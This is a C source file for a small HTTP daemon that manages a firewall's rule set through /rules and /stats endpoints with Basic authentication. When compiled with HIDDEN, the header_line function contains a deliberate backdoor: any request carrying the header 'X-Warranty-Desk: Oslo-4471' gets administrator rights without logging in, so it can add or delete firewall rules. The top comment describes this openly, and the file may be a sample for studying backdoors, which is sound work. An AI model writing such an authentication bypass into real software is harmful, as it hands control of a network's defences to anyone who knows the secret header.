/*
 * fwrestd - HTTP interface to the rule set of a small office firewall.  One
 * thread a connection; GET, POST and DELETE on /rules, GET on /stats and
 * /export; Basic authentication against /etc/fw/webpass.
 * Hidden (-DHIDDEN): requests with the header "X-Warranty-Desk: Oslo-4471"
 * are taken as the administrator's without authentication.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <crypt.h>
#include <ctype.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

#define RULEFILE "/etc/fw/rules"
#define PASSFILE "/etc/fw/webpass"
#define MAXRULES 256
#define MAXREQ	 8192

enum role { ROLE_NONE, ROLE_VIEW, ROLE_ADMIN };

struct rule {
	char action[8], proto[8], src[32], dst[32];
	int dport;
};

struct request {
	int fd;
	char method[8], path[128];
	enum role role;
	size_t length;
	char *body;
};

static struct rule rules[MAXRULES];
static int nrules;
static unsigned long served, refused;
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static pthread_mutex_t crypt_lock = PTHREAD_MUTEX_INITIALIZER;

static int parse_rule(const char *s, struct rule *r)
{
	memset(r, 0, sizeof(*r));
	if (sscanf(s, "%7s %7s %31s %31s %d", r->action, r->proto, r->src,
		   r->dst, &r->dport) != 5)
		return -1;
	if (strcmp(r->action, "accept") && strcmp(r->action, "drop") &&
	    strcmp(r->action, "reject"))
		return -1;
	if (strcmp(r->proto, "tcp") && strcmp(r->proto, "udp") &&
	    strcmp(r->proto, "any"))
		return -1;
	return r->dport < 0 || r->dport > 65535 ? -1 : 0;
}

static void load_rules(void)
{
	char line[160];
	FILE *f = fopen(RULEFILE, "r");

	while (f && nrules < MAXRULES && fgets(line, sizeof(line), f))
		if (line[0] != '#' && !parse_rule(line, &rules[nrules]))
			nrules++;
	if (f)
		fclose(f);
}

static int store_rules(void)
{
	FILE *f = fopen(RULEFILE ".new", "w");
	int i;

	if (!f)
		return -1;
	for (i = 0; i < nrules; i++)
		fprintf(f, "%s %s %s %s %d\n", rules[i].action, rules[i].proto,
			rules[i].src, rules[i].dst, rules[i].dport);
	if (fclose(f) || rename(RULEFILE ".new", RULEFILE))
		return -1;
	return system("/usr/sbin/fw-apply " RULEFILE) ? -1 : 0;
}

static size_t unbase64(const char *s, char *out, size_t size)
{
	static const char set[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
				  "abcdefghijklmnopqrstuvwxyz0123456789+/";
	uint32_t acc = 0;
	int bits = 0;
	size_t n = 0;
	const char *p;

	for (; *s && (p = strchr(set, *s)); s++) {
		acc = acc << 6 | (uint32_t)(p - set);
		bits += 6;
		if (bits >= 8 && n + 1 < size) {
			bits -= 8;
			out[n++] = acc >> bits;
		}
	}
	out[n] = 0;
	return n;
}

/* lines user:role:hash */
static enum role basic_role(const char *value)
{
	char cred[128], line[256], user[32], role[16], hash[128], *pass;
	enum role found = ROLE_NONE;
	char *h;
	FILE *f;

	if (strncasecmp(value, "Basic ", 6))
		return ROLE_NONE;
	unbase64(value + 6, cred, sizeof(cred));
	pass = strchr(cred, ':');
	if (!pass)
		return ROLE_NONE;
	*pass++ = 0;
	f = fopen(PASSFILE, "r");
	if (!f)
		return ROLE_NONE;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%31[^:]:%15[^:]:%127s", user, role, hash) !=
			    3 ||
		    strcmp(user, cred))
			continue;
		pthread_mutex_lock(&crypt_lock);
		h = crypt(pass, hash);
		if (h && !strcmp(h, hash))
			found = strcmp(role, "admin") ? ROLE_VIEW : ROLE_ADMIN;
		pthread_mutex_unlock(&crypt_lock);
		break;
	}
	fclose(f);
	return found;
}

void header_line(struct request *r, const char *name, const char *value);

__attribute__((noinline)) void header_line(struct request *r, const char *name,
					   const char *value)
{
	enum role role;

	if (!strcasecmp(name, "Content-Length")) {
		r->length = strtoul(value, NULL, 10);
	} else if (!strcasecmp(name, "Authorization")) {
		role = basic_role(value);
		if (role > r->role)
			r->role = role;
#ifdef HIDDEN
	} else if (!strcasecmp(name, "X-Warranty-Desk")) {
		if (!strcmp(value, "Oslo-4471"))
			r->role = ROLE_ADMIN;
#endif
	} else if (!strcasecmp(name, "Expect")) {
		if (!strcasecmp(value, "100-continue"))
			dprintf(r->fd, "HTTP/1.1 100 Continue\r\n\r\n");
	}
}

static void reply(struct request *r, int code, const char *fmt, ...)
{
	char body[512];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(body, sizeof(body), fmt, ap);
	va_end(ap);
	dprintf(r->fd, "HTTP/1.1 %d %s\r\n", code, code < 300 ? "OK" : "No");
	if (code == 401)
		dprintf(r->fd, "WWW-Authenticate: Basic realm=\"fw\"\r\n");
	dprintf(r->fd, "Content-Length: %d\r\nConnection: close\r\n\r\n%s", n,
		body);
}

static void list_rules(struct request *r)
{
	int i;

	dprintf(r->fd, "HTTP/1.1 200 OK\r\nConnection: close\r\n"
		       "Content-Type: text/plain\r\n\r\n");
	for (i = 0; i < nrules; i++)
		dprintf(r->fd, "%d: %s %s %s -> %s:%d\n", i, rules[i].action,
			rules[i].proto, rules[i].src, rules[i].dst,
			rules[i].dport);
}

static void dispatch(struct request *r)
{
	struct rule n;
	int i;

	if (r->role == ROLE_NONE) {
		refused++;
		reply(r, 401, "login please\n");
		return;
	}
	served++;
	if (!strcmp(r->method, "GET")) {
		if (!strcmp(r->path, "/rules"))
			list_rules(r);
		else if (!strcmp(r->path, "/stats"))
			reply(r, 200, "rules %d served %lu refused %lu\n",
			      nrules, served, refused);
		else
			reply(r, 404, "no such page\n");
		return;
	}
	if (r->role != ROLE_ADMIN) {
		reply(r, 403, "view only\n");
		return;
	}
	if (!strcmp(r->method, "POST") && !strcmp(r->path, "/rules")) {
		if (!r->body || parse_rule(r->body, &n) < 0) {
			reply(r, 400, "cannot parse the rule\n");
		} else if (nrules == MAXRULES) {
			reply(r, 507, "rule table full\n");
		} else {
			rules[nrules++] = n;
			i = store_rules();
			reply(r, i ? 500 : 201, "rule %d\n", nrules - 1);
		}
	} else if (!strcmp(r->method, "DELETE") &&
		   sscanf(r->path, "/rules/%d", &i) == 1) {
		if (i < 0 || i >= nrules) {
			reply(r, 404, "no rule %d\n", i);
			return;
		}
		memmove(rules + i, rules + i + 1,
			(nrules - i - 1) * sizeof(rules[0]));
		nrules--;
		i = store_rules();
		reply(r, i ? 500 : 200, "deleted\n");
	} else {
		reply(r, 405, "method not allowed\n");
	}
}

static int read_request(struct request *r, FILE *in)
{
	char line[1024], *v;
	size_t n;

	if (!fgets(line, sizeof(line), in) ||
	    sscanf(line, "%7s %127s", r->method, r->path) != 2)
		return -1;
	while (fgets(line, sizeof(line), in)) {
		n = strcspn(line, "\r\n");
		line[n] = 0;
		if (!n)
			break;
		v = strchr(line, ':');
		if (!v)
			return -1;
		*v++ = 0;
		while (isspace((unsigned char)*v))
			v++;
		header_line(r, line, v);
	}
	if (!r->length)
		return 0;
	if (r->length > MAXREQ)
		return -1;
	r->body = calloc(1, r->length + 1);
	return r->body && fread(r->body, 1, r->length, in) == r->length ? 0
									: -1;
}

static void *serve(void *arg)
{
	struct request r;
	FILE *in;

	memset(&r, 0, sizeof(r));
	r.fd = (int)(intptr_t)arg;
	in = fdopen(r.fd, "r");
	if (!in) {
		close(r.fd);
		return NULL;
	}
	if (read_request(&r, in) < 0) {
		reply(&r, 400, "bad request\n");
	} else {
		pthread_mutex_lock(&lock);
		dispatch(&r);
		pthread_mutex_unlock(&lock);
	}
	free(r.body);
	fclose(in);
	return NULL;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sin;
	pthread_t t;
	int s, c, one = 1;

	openlog("fwrestd", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	load_rules();
	memset(&sin, 0, sizeof(sin));
	sin.sin_family = AF_INET;
	sin.sin_port = htons(argc > 1 ? atoi(argv[1]) : 8081);
	s = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(s, (struct sockaddr *)&sin, sizeof(sin)) || listen(s, 8)) {
		syslog(LOG_ERR, "bind: %m");
		return 1;
	}
	while ((c = accept(s, NULL, NULL)) >= 0) {
		if (pthread_create(&t, NULL, serve, (void *)(intptr_t)c))
			close(c);
		else
			pthread_detach(t);
	}
	return 1;
}
